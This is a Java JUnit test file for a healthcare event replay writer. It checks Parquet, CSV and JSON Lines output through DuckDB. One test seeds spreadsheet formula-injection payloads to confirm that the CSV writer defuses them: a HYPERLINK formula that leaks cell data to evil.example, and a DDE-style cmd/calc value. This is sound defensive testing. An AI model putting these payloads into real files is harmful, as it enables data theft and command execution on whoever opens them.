package org.caretrail.consumers.replay;

import static org.assertj.core.api.Assertions.assertThat;
import static org.caretrail.consumers.replay.ReplayFixtures.ALICE;
import static org.caretrail.consumers.replay.ReplayFixtures.BOB;

import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.Statement;
import java.time.Instant;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.apache.avro.specific.SpecificRecord;
import org.caretrail.events.CareEventType;
import org.caretrail.events.json.CareEventJson;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class DuckDbWriterTest {

    private static final Instant AT = Instant.parse("2026-11-20T09:15:00Z");

    @TempDir
    Path dir;

    private static void write(ReplayFormat format, Path out, List<SpecificRecord> records) throws Exception {
        try (ReplayWriter writer = ReplayWriter.open(format, out)) {
            long offset = 0;
            for (SpecificRecord record : records) {
                var line = ReplayRow.line(record);
                writer.write(ReplayRow.of(CareEventType.of(record).topic(), 0, offset++, AT.plusSeconds(offset), line),
                        line);
            }
            writer.finish();
        }
    }

    @Test
    void parquetHasTypedColumnsThatDuckDbReadsBack() throws Exception {
        Path out = dir.resolve("events.parquet");
        write(ReplayFormat.PARQUET, out, List.of(ReplayFixtures.admission(ALICE, AT),
                ReplayFixtures.admission(BOB, AT.plusSeconds(60)), ReplayFixtures.identity(ALICE, AT)));

        try (Connection duck = DriverManager.getConnection("jdbc:duckdb:"); Statement sql = duck.createStatement()) {
            Map<String, String> types = new HashMap<>();
            try (ResultSet r = sql.executeQuery("DESCRIBE SELECT * FROM read_parquet('" + out + "')")) {
                while (r.next()) {
                    types.put(r.getString("column_name"), r.getString("column_type"));
                }
            }
            assertThat(types).containsEntry("occurred_at", "TIMESTAMP WITH TIME ZONE")
                    .containsEntry("version", "BIGINT").containsEntry("partition", "INTEGER")
                    .containsEntry("event_type", "VARCHAR").hasSize(ReplayRow.COLUMNS.length);
            try (ResultSet r = sql.executeQuery("SELECT event_type, count(*) AS n, min(occurred_at) AS first, "
                    + "any_value(json_extract_string(body, '$.ward')) AS ward FROM read_parquet('" + out
                    + "') GROUP BY event_type ORDER BY event_type")) {
                assertThat(r.next()).isTrue();
                assertThat(r.getString("event_type")).isEqualTo("admission");
                assertThat(r.getLong("n")).isEqualTo(2);
                assertThat(r.getObject("first", java.time.OffsetDateTime.class).toInstant()).isEqualTo(AT);
                assertThat(r.getString("ward")).isEqualTo("7B");
                assertThat(r.next()).isTrue();
                assertThat(r.getString("event_type")).isEqualTo("patient-identity");
                assertThat(r.next()).isFalse();
            }
            try (ResultSet r = sql.executeQuery("SELECT nhs_number, provider_kind FROM read_parquet('" + out
                    + "') WHERE event_type = 'admission' ORDER BY occurred_at")) {
                assertThat(r.next()).isTrue();
                assertThat(r.getString(1)).isEqualTo(ALICE);
                assertThat(r.getString(2)).isEqualTo("ACUTE");
            }
        }
    }

    @Test
    void csvHasAHeaderAndOneLinePerEvent() throws Exception {
        Path out = dir.resolve("events.csv");
        write(ReplayFormat.CSV, out, List.of(ReplayFixtures.admission(ALICE, AT), ReplayFixtures.admission(BOB, AT)));

        List<String> lines = Files.readAllLines(out);
        assertThat(lines.get(0)).startsWith("topic,partition,offset,kafka_timestamp,event_type");
        assertThat(lines).hasSize(3);
        assertThat(lines.get(1)).contains("care.admissions", "admission", ALICE);
    }

    @Test
    void jsonLinesAreTheCareEventJsonForm() throws Exception {
        Path out = dir.resolve("events.jsonl");
        var admission = ReplayFixtures.admission(ALICE, AT);
        write(ReplayFormat.JSONL, out, List.of(admission));

        List<String> lines = Files.readAllLines(out);
        assertThat(lines).hasSize(1);
        assertThat(CareEventJson.parseEvent(lines.get(0)).event()).isEqualTo(admission);
    }

    @Test
    void csvCellsThatASpreadsheetWouldRunAreDefusedAndParquetKeepsThem() throws Exception {
        var admission = ReplayFixtures.admission(ALICE, AT);
        admission.setWard("=HYPERLINK(\"http://evil.example/?\"&A1,\"Ward 7\")");
        admission.getHeader().getSource().setName("@SUM(1+1)*cmd|' /C calc'!A0");
        admission.getHeader().getSource().setSystem("-2+3");
        Path csv = dir.resolve("hostile.csv");
        Path parquet = dir.resolve("hostile.parquet");
        write(ReplayFormat.CSV, csv, List.of(admission));
        write(ReplayFormat.PARQUET, parquet, List.of(admission));

        String text = Files.readString(csv);
        assertThat(text).contains(",'@SUM(1+1)*cmd|' /C calc'!A0,", ",'-2+3,");
        assertThat(text).doesNotContain(",@SUM", ",-2+3", ",=HYPERLINK");
        try (Connection duck = DriverManager.getConnection("jdbc:duckdb:"); Statement sql = duck.createStatement();
                ResultSet r = sql.executeQuery("SELECT source_name, json_extract_string(body, '$.ward') FROM "
                        + "read_parquet('" + parquet + "')")) {
            assertThat(r.next()).isTrue();
            assertThat(r.getString(1)).isEqualTo("@SUM(1+1)*cmd|' /C calc'!A0");
            assertThat(r.getString(2)).startsWith("=HYPERLINK");
        }
    }
}
